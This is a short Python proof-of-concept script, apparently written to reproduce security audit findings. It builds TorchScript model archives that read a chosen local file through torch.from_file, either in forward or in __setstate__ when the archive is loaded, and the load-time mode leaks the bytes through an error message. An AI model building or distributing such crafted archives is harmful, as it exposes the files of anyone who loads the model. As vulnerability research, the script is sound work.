#!/usr/bin/env python3
"""Writes a model whose code reads a file of the user's: torch.from_file on SECRET, a path written
into the archive.

    /usr/bin/python3 make_file_reader.py SECRET OUT.pt             its forward adds the bytes to
                                                                   its input (issue 22, finding 5)
    /usr/bin/python3 make_file_reader.py --at-load SECRET OUT.pt   its __setstate__, which runs
                                                                   while the archive is loaded,
                                                                   raises them as its error
                                                                   (issue 35, finding 1)
"""
import argparse
import os
import sys
import tempfile

import torch

IN_FORWARD = '''
import torch

class Reader(torch.nn.Module):
    def forward(self, x):
        secret = torch.from_file({path!r}, size=16, dtype=torch.uint8)
        return x + secret.float()
'''

AT_LOAD = '''
from typing import List, Tuple
import torch

class Reader(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.path = {path!r}

    def forward(self, x):
        return x + 1

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, bool]:
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, bool]) -> None:
        self.path = state[0]
        self.training = state[1]
        data = torch.from_file(self.path, size=16, dtype=torch.uint8)
        values: List[int] = data.to(torch.int64).tolist()
        text = ""
        for b in values:
            text += chr(b)
        raise RuntimeError("leaked: " + text)
'''


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--at-load", action="store_true")
    parser.add_argument("secret")
    parser.add_argument("out")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "reader.py")
        with open(path, "w") as f:
            f.write((AT_LOAD if args.at_load else IN_FORWARD).format(path=args.secret))
        sys.path.insert(0, d)
        import reader  # noqa: E402 - written just now
        torch.jit.script(reader.Reader()).save(args.out)


if __name__ == "__main__":
    main()
